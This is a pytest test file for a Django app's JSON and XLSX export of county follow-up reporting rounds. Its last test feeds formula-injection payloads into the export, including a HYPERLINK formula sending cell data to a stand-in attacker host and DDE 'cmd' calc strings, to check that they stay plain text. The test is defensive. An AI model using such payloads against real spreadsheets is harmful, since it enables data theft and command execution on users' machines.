import json

import pytest
from django.core.management import call_command

pytestmark = pytest.mark.django_db


def test_export_round_jonkoping_2022_from_demo_data(tmp_path):
    # given the seed-derived demo data
    call_command("load_demo")
    out = tmp_path / "round.json"
    # when
    call_command(
        "export_round", "--county", "06", "--year", "2022", "--format", "json", "-o", str(out)
    )
    data = json.loads(out.read_text(encoding="utf-8"))
    # then
    assert data["format"] == "kvinnofrid-round/1"
    assert data["county"] == "06"
    assert data["year"] == 2022
    assert data["summary"]["submitted"] == 11
    assert data["summary"]["previous_year_submitted"] == 15
    submitted = [s for s in data["submissions"] if s["status"] in ("submitted", "accepted")]
    assert len(submitted) == 11
    assert any(a["sub_goals"] for s in submitted for a in s["activities"])
    xlsx = tmp_path / "round.xlsx"
    call_command(
        "export_round", "--county", "06", "--year", "2022", "--format", "xlsx", "-o", str(xlsx)
    )
    from openpyxl import load_workbook

    wb = load_workbook(xlsx)
    assert wb.sheetnames == ["submissions", "activities", "answers", "indicator values"]
    assert wb["submissions"].max_row == len(data["submissions"]) + 1


def test_export_round_unknown_round_is_a_clear_error():
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="Ingen uppföljning"):
        call_command("export_round", "--county", "06", "--year", "1999")


def test_export_shape_with_factories(world, tmp_path):
    from followup import services
    from tests.followup.conftest import fill_required

    fill_required(world)
    services.activity_save(
        submission_id=world.submission.pk,
        activity_id=None,
        lock_version=None,
        data={"title": "Kampanj", "sub_goals": [world.sub_goals[2].pk], "areas": ["sexuellt våld"]},
        actor=world.users["reporter"],
    )
    services.submission_submit(submission_id=world.submission.pk, actor=world.users["reporter"])
    from followup.exports import RoundExport

    data = RoundExport(round_id=world.round.pk).as_dict()
    assert data["summary"]["invited"] == 2
    assert data["summary"]["submitted"] == 1
    sub = next(s for s in data["submissions"] if s["organisation"] == "Aneby kommun")
    assert sub["activities"][0]["sub_goals"] == [{"goal": 2, "position": 1, "code": "2:1"}]
    assert sub["indicator_values"] == [{"indicator": "Antal utbildade", "value": 12, "note": ""}]


FORMULA_ANSWER = '=HYPERLINK("http://angripare.example/?"&A2,"Klicka")'
FORMULA_TITLE = "=cmd|' /C calc'!A0"


def test_xlsx_export_writes_user_text_as_text_never_a_formula(world):
    """Issue 12 item 2: answers and activity titles that look like formulas stay text."""
    from io import BytesIO

    from openpyxl import load_workbook

    from followup import services
    from followup.exports import RoundExport
    from tests.followup.conftest import fill_required

    # given: a reporter typed formulas into an answer, an activity and an indicator note
    fill_required(world)
    world.submission.refresh_from_db()
    question = world.round.questions.filter(required=True).first()
    services.submission_save(
        submission_id=world.submission.pk,
        lock_version=world.submission.lock_version,
        answers={question.pk: {"text": FORMULA_ANSWER}},
        indicator_values={
            world.indicator.pk: {"value": "12", "note": "@SUM(1+1)*cmd|' /C calc'!A0"}
        },
        actor=world.users["reporter"],
    )
    services.activity_save(
        submission_id=world.submission.pk,
        activity_id=None,
        lock_version=None,
        data={
            "title": FORMULA_TITLE,
            "description": "+1+1",
            "partners": "-2+3",
            "sub_goals": [world.sub_goals[2].pk],
        },
        actor=world.users["reporter"],
    )
    # when
    workbook = load_workbook(BytesIO(RoundExport(round_id=world.round.pk).xlsx_bytes()))
    # then: not one formula cell in the whole workbook
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    # and the text is intact, marked so a spreadsheet program keeps it text when edited
    for typed in (FORMULA_ANSWER, FORMULA_TITLE, "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"):
        assert typed in texts, typed
        assert texts[typed].data_type == "s"
        assert texts[typed].quotePrefix is True
    assert texts["Aneby kommun"].quotePrefix is False
